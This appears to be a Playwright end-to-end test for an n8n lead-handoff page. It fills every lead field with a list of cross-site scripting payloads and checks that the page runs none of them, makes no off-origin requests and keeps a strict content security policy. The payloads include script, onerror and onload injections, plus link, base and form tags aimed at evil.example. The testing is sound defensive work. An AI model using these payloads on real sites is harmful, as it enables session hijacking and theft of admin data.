import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { calendarReports } from '../../sandbox/demo/people.mts';
import { sendLead } from '../../sandbox/demo/send-lead.mts';
import { type Stage, stageOf } from '../../sandbox/demo/stage.mts';
import { type LedgerWatch, watchLedger } from '../../sandbox/demo/watch-ledger.mts';
import { OWNER } from '../../sandbox/n8n/n8n-api.mts';
import { startBrowser } from './browser.mts';
import { freshLead } from './fresh-lead.mts';
import { unfoldAll } from './page-checks.mts';
import { mails, world } from './world.mts';

/** What would read n8n as its owner, or lead elsewhere, if a page took it for markup. */
const ATTACKS = [
	`<script>fetch('/rest/users')</script>`,
	`"><img src=x onerror="fetch('/rest/login')">`,
	'<img src="/rest/settings">',
	'</textarea><svg onload=alert(1)>',
	'<iframe srcdoc="<script>parent.location=`/rest/workflows`</script>"></iframe>',
	'<link rel="stylesheet" href="//evil.example/x.css"><base href="//evil.example/">',
	'<form action="//evil.example"><button>Accept</button></form>',
	`' autofocus onfocus='alert(1)' x='`,
].join(' ');

/** Everything somebody outside can write is an attack, and the lead still meets the bar. */
function hostileLead() {
	const payload = freshLead('owner');
	const [pain, step] = [`We lose days ${ATTACKS}`, `Show us ${ATTACKS} on Monday`];
	const { lead, company } = payload.facts as { readonly lead: object; readonly company: object };
	return {
		...payload,
		facts: {
			...payload.facts,
			lead: { ...lead, name: `Dana ${ATTACKS}`, title: ATTACKS },
			company: { ...company, name: ATTACKS, industry: ATTACKS },
			discovery: {
				notes: `They said: “${pain}” and “${step}” ${ATTACKS}`,
				pain: { problem: ATTACKS, quote: pain },
				next_step: { quote: step },
				timeline: { date: new Date(Date.now() + 60 * 86_400_000).toISOString().slice(0, 10) },
				authority: 'decides',
				stakeholders: [ATTACKS],
			},
		},
	};
}

describe("a page of ours in the browser of n8n's owner", () => {
	let browser: Browser;
	let watch: LedgerWatch;
	let stage: Stage;
	let context: BrowserContext;
	let page: Page;
	let id: string;
	/** Everything the browser asked for, and everything a script would have shown. */
	let asked: string[];
	let dialogs: string[];

	beforeAll(async () => {
		browser = await startBrowser();
		watch = await watchLedger(world.ledgerUrl, 60_000);
		stage = stageOf(world, watch, mails);
		id = (await sendLead(world.url, hostileLead())).id ?? '';
		await watch.until(id, 'booked', ({ status }) => status === 'booked');
		await calendarReports(id, 'held', world.ledgerUrl);
		context = await browser.newContext({ baseURL: world.url });
		await context.request.post('/rest/login', {
			data: { emailOrLdapLoginId: OWNER.email, password: OWNER.password },
		});
	});

	afterAll(async () => {
		await context?.close();
		await browser?.close();
		await watch?.close();
	});

	beforeEach(async () => {
		page = await context.newPage();
		[asked, dialogs] = [[], []];
		page.on('request', (request) => asked.push(request.url()));
		page.on('dialog', async (dialog) => {
			dialogs.push(dialog.message());
			await dialog.dismiss();
		});
	});

	it('is opened by somebody n8n knows, whose every request is seen', async () => {
		await page.goto('/home/workflows');
		await page.waitForRequest(/\/rest\//);
		expect(asked.some((url) => new URL(url).pathname.startsWith('/rest/'))).toBe(true);
		expect((await context.request.get('/rest/users')).status()).toBe(200);
		await page.close();
	});

	it('runs nothing a lead wrote, reads nothing of n8n and asks for nothing elsewhere', async () => {
		const link = await stage.link(id, 'decision-request');
		const opened = await page.goto(link);
		expect(opened?.status()).toBe(200);
		expect(await page.locator('body').innerText()).toContain(`fetch('/rest/users')`);
		await unfoldAll(page);
		await page.mouse.move(180, 60);
		await page.locator('#reject-note').fill(ATTACKS);
		await page.locator('#reject-reason').check();
		await page.locator('#reject button').click();
		// Faster than a person reads, the form comes back with all that was entered.
		const back = page.getByRole('alert');
		const sent = page.getByRole('heading', { name: 'Sent back' });
		await back.or(sent).waitFor();
		if (await back.isVisible()) {
			await page.waitForTimeout(1_700);
			await page.locator('#reject button').click();
		}
		await sent.waitFor();
		expect(dialogs).toEqual([]);
		expect(new Set(asked.map((url) => new URL(url).pathname))).toEqual(
			new Set(['/webhook/handoff/decision']),
		);
		expect(asked.every((url) => url.startsWith(world.url))).toBe(true);
		await page.close();
	});

	it.each([
		['a link that is none', 'GET', 'decision?t=made-up'],
		['a page without a link', 'GET', 'evidence'],
		['a form without a link', 'POST', 'decision'],
		['a form with a link that is none', 'POST', 'evidence'],
	])('keeps its policy on an error: %s', async (_title, method, path) => {
		const response = await fetch(`${world.url}/webhook/handoff/${path}`, {
			method,
			...(method === 'POST' ? { body: new URLSearchParams({ decision: 'accept', t: 'x' }) } : {}),
		});
		expect(response.status).toBe(404);
		expect(response.headers.get('content-security-policy')).toContain("default-src 'none'");
		expect(response.headers.get('content-security-policy')).toContain('sandbox allow-forms');
		expect(response.headers.get('x-content-type-options')).toBe('nosniff');
		await page.close();
	});
});
